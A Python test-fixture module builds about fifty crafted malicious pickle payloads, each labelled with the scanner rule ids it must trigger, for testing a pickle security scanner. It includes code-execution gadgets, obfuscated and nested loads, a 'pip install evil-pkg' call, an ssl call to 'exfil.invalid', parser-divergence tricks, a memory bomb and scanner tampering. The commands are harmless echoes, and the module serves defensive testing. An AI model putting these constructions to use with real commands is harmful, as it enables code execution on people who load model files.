"""Builders of malicious pickles from THREATS.md: they only write bytes, never load them.

Each entry of ATTACKS is (id, bytes, expected rule ids). Payloads are harmless (`echo pwned`).
"""

from __future__ import annotations

import base64
import marshal
import struct

CMD = "echo pwned"
PY = "__import__('os').system('echo pwned')"


def sbu(s: str) -> bytes:
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b  # SHORT_BINUNICODE


def bu(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b  # BINUNICODE


def bb(b: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(b)) + b  # BINBYTES


def glob(m: str, n: str) -> bytes:
    return b"c" + f"{m}\n{n}\n".encode()  # GLOBAL


def sglob(m: str, n: str) -> bytes:
    return sbu(m) + sbu(n) + b"\x93"  # STACK_GLOBAL


def call1(m: str, n: str, arg: bytes) -> bytes:
    return sglob(m, n) + arg + b"\x85R"  # m.n(arg)


def p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


INNER = p4(call1("os", "system", sbu(CMD)))
CODE = marshal.dumps(compile(PY, "x", "exec"))

# (id, bytes, rule ids that must be among the findings)
ATTACKS: list[tuple[str, bytes, set[str]]] = [
    ("G1-posix-proto2", b"\x80\x02" + glob("posix", "system") + bu(CMD) + b"\x85R.", {"PKL102"}),
    ("G1-nt-proto0", b"cnt\nsystem\n(S'echo pwned'\ntR.", {"PKL102"}),
    ("G1-os-proto1", b"cos\nsystem\nq\x00(X\n\x00\x00\x00echo pwnedtR.", {"PKL102"}),
    ("G1-subprocess", p4(call1("subprocess", "check_output", sbu(CMD))), {"PKL102"}),
    ("G2-exec", p4(call1("builtins", "exec", bu(PY))), {"PKL101"}),
    ("G2-eval-builtin", b"\x80\x02" + glob("__builtin__", "eval") + bu(PY) + b"\x85R.", {"PKL101"}),
    ("G2-compile", p4(call1("builtins", "compile", bu(PY))), {"PKL101"}),
    ("G3-dotted", b"\x80\x04" + glob("builtins", "eval.__call__") + bu(PY) + b"\x85R.", {"PKL101"}),
    ("G4-getattr-import", p4(sglob("builtins", "getattr") + call1("builtins", "__import__", sbu("os"))
                             + sbu("system") + b"\x86R" + sbu(CMD) + b"\x85R"), {"PKL103"}),
    ("G5-methodcaller", p4(sglob("_operator", "methodcaller") + sbu("system") + sbu(CMD) + b"\x86R"
                           + call1("importlib", "import_module", sbu("os")) + b"\x85R"), {"PKL103"}),
    ("G6-resolve-name", p4(call1("pkgutil", "resolve_name", sbu("os:system")) + sbu(CMD) + b"\x85R"),
     {"PKL103"}),
    ("G7-pydoc-locate", p4(call1("pydoc", "locate", sbu("os.system")) + sbu(CMD) + b"\x85R"), {"PKL103"}),
    ("G8-runpy", p4(sglob("runpy", "_run_code") + bu(PY) + b"}\x86R"), {"PKL101"}),
    ("G9-pip", p4(sglob("pip", "main") + b"](" + sbu("install") + sbu("evil-pkg") + b"e\x85R"), {"PKL109"}),
    ("G10-ensurepip", p4(sglob("ensurepip", "_run_pip") + b"](" + sbu("install") + b"e\x85R"), {"PKL109"}),
    ("G11-code", p4(sglob("code", "InteractiveInterpreter.runcode") + b"(" + sglob("code", "InteractiveInterpreter")
                    + b")R" + bu(PY) + b"tR"), {"PKL101"}),
    ("G11-idlelib", p4(sglob("idlelib.pyshell", "ModifiedInterpreter.runcommand") + bu(PY) + b"\x85R"),
     {"PKL101"}),
    ("G12-timeit", p4(sglob("timeit", "timeit") + sbu("") + bu(PY) + b"\x86R"), {"PKL110"}),
    ("G12-cprofile", p4(call1("cProfile", "run", bu(PY))), {"PKL110"}),
    ("G13-runstring", p4(sglob("numpy.testing._private.utils", "runstring") + bu(PY) + b"}\x86R"),
     {"PKL111"}),
    ("G14-collect-env", p4(sglob("torch.utils.collect_env", "run") + sbu(CMD) + b"\x85R"), {"PKL111"}),
    ("G15-pickle-loads", p4(call1("_pickle", "loads", bb(INNER))), {"PKL105", "PKL102"}),
    ("G16-spawnv", p4(sglob("multiprocessing.util", "spawnv_passfds") + bb(b"/bin/sh") + b"](" + bb(b"/bin/sh")
                      + bb(b"-c") + bb(CMD.encode()) + b"e)\x87R"), {"PKL102"}),
    ("G16-uuid", p4(call1("uuid", "_get_command_stdout", sbu("sh"))), {"PKL102"}),
    ("G17-marshal-function", p4(sglob("types", "FunctionType") + call1("marshal", "loads", bb(CODE))
                                + b"}\x86R)R"), {"PKL104"}),
    ("G18-pathlib-os", p4(sglob("pathlib", "os.system") + sbu(CMD) + b"\x85R"), {"PKL102"}),
    ("G18-main-os", p4(sglob("__main__", "os.system") + sbu(CMD) + b"\x85R"), {"PKL102"}),
    ("G19-ctypes", p4(call1("ctypes", "CDLL", b"N")), {"PKL106"}),
    ("G20-ssl", p4(sglob("ssl", "get_server_certificate") + sbu("exfil.invalid") + b"M\xbb\x01\x86\x85R"),
     {"PKL108"}),
    ("G20-fileio", p4(call1("_io", "FileIO", sbu("/tmp/x"))), {"PKL107"}),
    ("G21-atexit", p4(sglob("atexit", "register") + sglob("builtins", "print") + b"\x85R"), {"PKL113"}),
    ("P1-memo-decoys", p4(sbu("os") + b"q\x02" + b"0" + sbu("system") + b"q\x030" + sbu("torch") + b"q\x000"
                          + sbu("LongStorage") + b"q\x010" + b"h\x02h\x03\x93" + sbu(CMD) + b"\x85R"),
     {"PKL102"}),
    ("P2-computed-operands", p4(sglob("codecs", "decode") + sbu("bf") + sbu("rot13") + b"\x86R"
                                + sglob("codecs", "decode") + sbu("flfgrz") + sbu("rot13") + b"\x86R"
                                + b"\x93" + sbu(CMD) + b"\x85R"), {"PKL203", "PKL102"}),
    ("P3-string-operands", b"S'os'\nS'system'\n\x93S'ls'\n\x85R.", {"PKL102"}),
    ("P5-inst", b"(S'echo pwned'\nios\nsystem\n.", {"PKL102"}),
    ("P5-obj", b"\x80\x01(" + glob("os", "system") + b"S'echo pwned'\no.", {"PKL102"}),
    ("P6-obj-popped", b"\x80\x04(" + sglob("smtplib", "SMTP") + sbu("127.0.0.1") + b"o0N.", {"PKL108"}),
    ("P7-build-patch", p4(sglob("numpy", "size") + b"N}" + sbu("__defaults__") + sbu("x") + b"s\x86b"),
     {"PKL207"}),
    ("P8-base64-nested", p4(call1("_pickle", "loads", call1("base64", "b64decode",
                                                        bu(base64.b64encode(INNER).decode())))),
     {"PKL105", "PKL102"}),
    ("P8-hex-nested", p4(call1("pickle", "loads", call1("binascii", "unhexlify", bu(INNER.hex())))),
     {"PKL105", "PKL102"}),
    ("P9-stacked", p4(b"K\x01") + INNER, {"PKL102", "PKL304"}),
    ("P11-broken-after-payload", b"\x80\x02" + glob("builtins", "exec") + bu(PY) + b"\x85R\xff\xfe",
     {"PKL101", "PKL301"}),
    ("P11-no-stop", b"\x80\x02" + glob("builtins", "exec") + bu(PY) + b"\x85R", {"PKL101", "PKL301"}),
    ("P13-ext", b"\x80\x02\x82\x01" + bu(CMD) + b"\x85R.", {"PKL206"}),
    ("P16-scanner-tamper", p4(sglob("picklescan.scanner", "scan_pickle_bytes") + b")R"), {"PKL112"}),
    ("dill-create-code-called", p4(sglob("dill._dill", "_create_function") + b"(" + call1("marshal", "loads", bb(CODE))
                                   + b"}" + sbu("f") + b"NNtR)R"), {"PKL104"}),
    ("cloudpickle-latent", p4(sglob("cloudpickle.cloudpickle", "_make_function") + b"("
                              + call1("marshal", "loads", bb(CODE)) + b"}" + sbu("f") + b"NNtR"), {"PKL202"}),
    ("forwarded-code", p4(sglob("builtins", "map") + sglob("types", "FunctionType")
                          + call1("marshal", "loads", bb(CODE)) + b"}\x86R" + b"](N" + b"e\x86R"), {"PKL104"}),
]


def frame_divergence() -> bytes:
    """P12: a BINBYTES whose length runs past its FRAME. Read from bytes, the payload is
    swallowed by a second BINBYTES; read from a file, CPython's C unpickler drops the rest of
    the frame and runs the payload."""
    payload = sglob("os", "system") + sbu(CMD) + b"\x85R"
    filler = b"A" * 11 + b"B" + struct.pack("<I", len(payload))
    in_frame = b"B" + struct.pack("<I", len(filler)) + b"\x00" * 5
    return b"\x80\x04" + frame(in_frame)[:9] + in_frame + filler + payload + b"."


def billion_laughs(levels: int = 40, fanout: int = 10) -> bytes:
    """P15: each list holds `fanout` references to the previous one."""
    body = b"]\x94"
    for level in range(levels):
        body += b"(" + (b"j" + struct.pack("<I", level)) * fanout + b"l\x94"
    return b"\x80\x04" + body + b"."


ATTACKS += [
    ("P12-frame-divergence", frame_divergence(), {"PKL302", "PKL102"}),
    ("P15-billion-laughs", billion_laughs(), {"PKL305"}),
]


def nested_loads(depth: int) -> bytes:
    """A pickle that loads a pickle that loads a pickle..., the innermost one malicious."""
    data = INNER
    for _ in range(depth):
        data = p4(call1("pickle", "loads", bb(data)))
    return data


ATTACKS += [
    ("P4-bad-memo-key", p4(b"h\x07" + sglob("os", "system") + sbu(CMD) + b"\x85R"), {"PKL306", "PKL102"}),
    ("P9-computed-legacy-magic", p4(call1("builtins", "eval", sbu("0x1950a86a20f9469cfc6c"))) + p4(b"M\xe9\x03"),
     {"PKL101", "TRC103"}),
    ("trailing-garbage", INNER + b"\xff\xfe\xfd", {"PKL102", "PKL303"}),
    ("nested-too-deep", nested_loads(6), {"PKL105", "PKL307"}),
]

# P14: with '\r\n' on every line CPython imports "os\r" and fails; one conversion to '\n'
# makes the file live. Reported under the capability's rule, at WARNING.
DORMANT_CRLF = b"cos\r\nsystem\r\n(S'echo pwned'\ntR."

# Benign-shaped pickles with the INFO-level rules they must produce (and nothing louder).
INFO_ONLY: list[tuple[str, bytes, set[str]]] = [
    ("import-only", p4(sglob("mypkg.layers", "Custom")), {"PKL205"}),
    ("newobj-state", b"\x80\x02c__main__\nNet\nq\x00)\x81q\x01}q\x02X\x01\x00\x00\x00aK\x01sb.", {"PKL204"}),
    ("stacked-benign", p4(b"K\x01") + p4(b"K\x02"), {"PKL304"}),
]
